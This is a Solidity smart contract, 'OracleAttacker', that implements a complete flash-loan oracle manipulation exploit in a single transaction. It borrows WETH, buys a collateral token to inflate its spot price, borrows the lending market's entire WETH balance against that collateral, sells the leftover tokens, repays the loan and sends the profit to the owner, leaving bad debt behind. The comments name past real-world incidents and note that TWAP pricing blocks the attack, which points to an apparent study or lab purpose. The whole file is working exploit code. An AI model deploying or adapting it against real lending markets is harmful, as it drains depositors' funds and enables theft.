// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IERC20} from "../interfaces/IERC20.sol";
import {IWETH} from "../interfaces/IWETH.sol";
import {IERC3156FlashBorrower} from "../interfaces/IERC3156FlashBorrower.sol";
import {IERC3156FlashLender} from "../interfaces/IERC3156FlashLender.sol";
import {IUniswapV2Pair} from "../interfaces/IUniswapV2Pair.sol";
import {ILendingMarket} from "../interfaces/ILendingMarket.sol";


/// @title OracleAttacker
/// @notice Flash-loan oracle manipulation against a lending market that
/// values collateral at a pool's spot price (Harvest 2020, Cream 2021,
/// Inverse Finance 2022), in one transaction:
///  1. flash-borrow WETH (ERC-3156);
///  2. buy the collateral token with all of it, pushing the spot price up;
///  3. deposit just enough of the token to borrow all of the market's WETH
///     at the inflated price, and borrow it;
///  4. sell the remaining tokens back, repay loan + fee;
///  5. send the profit, unwrapped, to the owner. The collateral is left
///     behind as bad debt worth a fraction of what was borrowed.
/// Against a TWAP-priced market step 3 values the tokens fairly, the borrow
/// is too small to repay the loan, and the whole transaction reverts.
contract OracleAttacker is IERC3156FlashBorrower {
    bytes32 private constant CALLBACK_SUCCESS = keccak256("ERC3156FlashBorrower.onFlashLoan");

    address public immutable owner;
    IERC3156FlashLender public immutable lender;
    IUniswapV2Pair public immutable pair;
    ILendingMarket public immutable market;
    IWETH public immutable weth;
    IERC20 public immutable token;

    error NotOwner();
    error UntrustedLender();
    error NoProfit(uint256 balance, uint256 owed);

    constructor(address lender_, address pair_, address market_, address weth_, address token_) {
        owner = msg.sender;
        lender = IERC3156FlashLender(lender_);
        pair = IUniswapV2Pair(pair_);
        market = ILendingMarket(market_);
        weth = IWETH(weth_);
        token = IERC20(token_);
    }

    receive() external payable {}

    /// @notice Runs the whole exploit with a flash loan of `loanAmount` WETH.
    function attack(uint256 loanAmount) external {
        if (msg.sender != owner) revert NotOwner();
        lender.flashLoan(this, address(weth), loanAmount, "");
        uint256 profit = weth.balanceOf(address(this));
        weth.withdraw(profit);
        (bool ok,) = owner.call{value: address(this).balance}("");
        require(ok, "OracleAttacker: payout failed");
    }

    /// @inheritdoc IERC3156FlashBorrower
    function onFlashLoan(address initiator, address, uint256 amount, uint256 fee, bytes calldata)
        external
        returns (bytes32)
    {
        if (msg.sender != address(lender) || initiator != address(this)) revert UntrustedLender();

        // 2. Pump: buy the token with the whole loan.
        _swap(address(weth), amount);

        // 3. Post the minimum collateral for the market's whole cash at the
        //    (manipulated) oracle price, and borrow it.
        uint256 tokens = token.balanceOf(address(this));
        uint256 cash = market.getCash();
        uint256 price = market.oracle().price(address(token));
        uint256 cf = market.collateralFactorBps();
        uint256 needed = cash * 10_000 / cf * 1e18 / price + 1e18; // +1 token of headroom
        uint256 borrowAmount = cash;
        if (needed > tokens) {
            needed = tokens;
            borrowAmount = tokens * price / 1e18 * cf / 10_000;
            if (borrowAmount > cash) borrowAmount = cash;
        }
        token.approve(address(market), needed);
        market.deposit(needed);
        market.borrow(borrowAmount);

        // 4. Dump the rest back into the pool and repay.
        uint256 rest = token.balanceOf(address(this));
        if (rest > 0) _swap(address(token), rest);
        uint256 owed = amount + fee;
        uint256 balance = weth.balanceOf(address(this));
        if (balance <= owed) revert NoProfit(balance, owed);
        weth.approve(address(lender), owed);
        return CALLBACK_SUCCESS;
    }

    /// @dev Swaps exactly `amountIn` of `tokenIn` on the pair (0.3% fee).
    function _swap(address tokenIn, uint256 amountIn) private {
        (uint112 r0, uint112 r1,) = pair.getReserves();
        bool zeroForOne = pair.token0() == tokenIn;
        (uint256 reserveIn, uint256 reserveOut) = zeroForOne ? (uint256(r0), uint256(r1)) : (uint256(r1), uint256(r0));
        uint256 inWithFee = amountIn * 997;
        uint256 out = inWithFee * reserveOut / (reserveIn * 1000 + inWithFee);
        IERC20(tokenIn).transfer(address(pair), amountIn);
        (uint256 out0, uint256 out1) = zeroForOne ? (uint256(0), out) : (out, uint256(0));
        pair.swap(out0, out1, address(this), "");
    }
}
